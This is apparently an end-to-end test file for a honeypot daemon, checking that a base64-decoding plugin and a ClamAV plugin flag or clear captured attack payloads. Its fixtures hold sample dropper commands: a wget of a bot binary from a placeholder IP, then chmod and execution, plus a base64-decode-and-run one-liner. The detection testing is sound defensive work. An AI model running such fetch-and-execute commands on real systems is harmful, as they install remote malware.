// Issue 6: the clamav plugin in a running daemon, against a real clamd
// (Debian's clamav-daemon, started here with a database holding only this
// test's signatures). b64-decode and clamav are installed as an operator
// installs them; real ncat clients send base64 payloads, b64-decode turns
// them into artifacts, clamav scans each through clamd's unix socket (the
// operator's grant in plugins.network.hosts.clamav): a known payload gives a
// signature finding, another a "clean" note, and with clamd stopped the scan
// fails with the reason in the record.
import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { showAttack, type Attack } from '../lib/cli.js';
import { removeAllClamd, reported, startClamd, type Clamd } from '../lib/clamd.js';
import { waitUntil } from '../lib/clients.js';
import { HoneytrapDaemon, cleanup, makeTempDir, testConfig } from '../lib/daemon.js';
import { installPlugins, ncatAttack, waitPluginsReady } from '../lib/plugin-daemon.js';
import { freePort } from '../lib/ports.js';

const PLUGINS = ['b64-decode', 'clamav'];

interface Record_ {
  plugin: string;
  status: string;
  input?: string;
  findings: { type: string; value: string; meta?: Record<string, unknown> }[];
  error?: { code: string; message: string };
}

/** A dropper script as b64-decode hands it on (text decodes whole); the random line makes it this test's own. */
const script = (tag: string): Buffer =>
  Buffer.from(
    `#!/bin/sh\n# ${tag} ${randomBytes(24).toString('hex')}\ncd /tmp; wget http://192.0.2.7/bot.arm7; chmod +x bot.arm7; ./bot.arm7\n`,
  );
const malware = script('known');
const marker = `HONEYTRAP-CLAMAV-E2E-${randomBytes(6).toString('hex')}`;

let clamd: Clamd;
let daemon: HoneytrapDaemon;
let port = 0;

const attack = (data: string): Promise<string> => ncatAttack(daemon, port, data);

/** The attack once a clamav record matching `pick` is in it. */
async function clamavRecord(
  id: string,
  pick: (key: string, r: Record_) => boolean,
): Promise<Record_> {
  let last: Attack | undefined;
  let found: Record_ | undefined;
  await waitUntil(
    async () => {
      last = await showAttack(daemon.storeDir, id);
      const plugins = last.plugins as Record<string, Record_>;
      found = Object.entries(plugins).find(([k, r]) => r.plugin === 'clamav' && pick(k, r))?.[1];
      return found !== undefined;
    },
    20_000,
    `a clamav record on attack ${id} (last: ${JSON.stringify(last?.plugins)})`,
  );
  return found!;
}

/** The sha256 b64-decode gave the payload of attack `id`. */
async function decodedSha(id: string): Promise<string> {
  let sha = '';
  await waitUntil(
    async () => {
      const a = await showAttack(daemon.storeDir, id);
      const r = (a.plugins as Record<string, Record_>)['b64-decode'];
      const value = r?.findings.find((f) => f.type === 'decoded-payload')?.meta?.sha256;
      sha = typeof value === 'string' ? value : '';
      return sha !== '';
    },
    15_000,
    `b64-decode's payload on attack ${id}`,
  );
  return sha;
}

const dropper = (payload: Buffer): string =>
  `cd /tmp; echo ${payload.toString('base64')} | base64 -d > .x; chmod +x .x; ./.x\r\n`;

beforeAll(async () => {
  clamd = await startClamd({
    hashSignatures: [{ name: 'Honeytrap.E2E.Dropper', data: malware }],
    hexSignatures: [{ name: 'Honeytrap.E2E.Marker', bytes: marker }],
  });
  const tmp = await makeTempDir('honeytrap-clamav-');
  const pluginsDir = join(tmp, 'plugins');
  await installPlugins(pluginsDir, PLUGINS);
  port = await freePort();
  daemon = await HoneytrapDaemon.start((dir) => ({
    ...testConfig(dir, { ports: [{ port, template: '80_tcp' }] }),
    plugins: {
      dirs: [pluginsDir],
      network: { hosts: { clamav: [clamd.unixUrl] } },
      config: { clamav: { socket: clamd.unixUrl, scanAttacks: true } },
    },
  }));
  await waitPluginsReady(daemon, PLUGINS);
}, 60_000);

afterAll(async () => {
  await cleanup();
  await removeAllClamd();
});

describe('clamav in a daemon, with a real clamd', () => {
  test('a dropped payload clamd knows: a signature finding on the artifact task', async () => {
    const id = await attack(dropper(malware));
    const sha = await decodedSha(id);
    const r = await clamavRecord(id, (k) => k === `clamav@${sha.slice(0, 12)}`);
    expect(r).toMatchObject({ status: 'ok', input: sha });
    expect(r.findings).toEqual([
      {
        type: 'signature',
        value: reported('Honeytrap.E2E.Dropper'),
        meta: { engine: 'clamav', bytes: malware.length },
      },
    ]);
  }, 40_000);

  test('a payload clamd does not know: the scan is recorded as clean', async () => {
    const other = script('unknown');
    const id = await attack(dropper(other));
    const sha = await decodedSha(id);
    const r = await clamavRecord(id, (k) => k === `clamav@${sha.slice(0, 12)}`);
    expect(r.findings).toEqual([
      { type: 'note', value: 'clean', meta: { engine: 'clamav', bytes: other.length } },
    ]);
  }, 40_000);

  test('scanAttacks: the attack data itself is scanned', async () => {
    const text = `GET /?q=${marker} HTTP/1.1\r\nHost: t\r\n\r\n`;
    const id = await attack(text);
    const r = await clamavRecord(id, (k) => k === 'clamav');
    expect(r.findings).toEqual([
      {
        type: 'signature',
        value: reported('Honeytrap.E2E.Marker'),
        meta: { engine: 'clamav', bytes: text.length },
      },
    ]);
  }, 40_000);

  test('clamd down: the scan fails with the reason in the record; clamd back, scans work', async () => {
    await clamd.stop();
    try {
      const id = await attack(dropper(malware));
      const r = await clamavRecord(id, (k) => k === 'clamav');
      expect(r.status).toBe('error');
      expect(r.error?.message).toContain(`clamd at ${clamd.unixUrl} did not scan the attack data`);
      expect(r.findings).toEqual([]);
      const sha = await decodedSha(id);
      const art = await clamavRecord(id, (k) => k === `clamav@${sha.slice(0, 12)}`);
      expect(art.status).toBe('error');
      expect(art.error?.message).toContain(
        `clamd at ${clamd.unixUrl} did not scan the artifact ${sha}`,
      );
    } finally {
      await clamd.start();
    }
    const id = await attack(dropper(malware));
    const sha = await decodedSha(id);
    const r = await clamavRecord(id, (k) => k === `clamav@${sha.slice(0, 12)}`);
    expect(r.findings[0]?.value).toBe(reported('Honeytrap.E2E.Dropper'));
  }, 60_000);
});
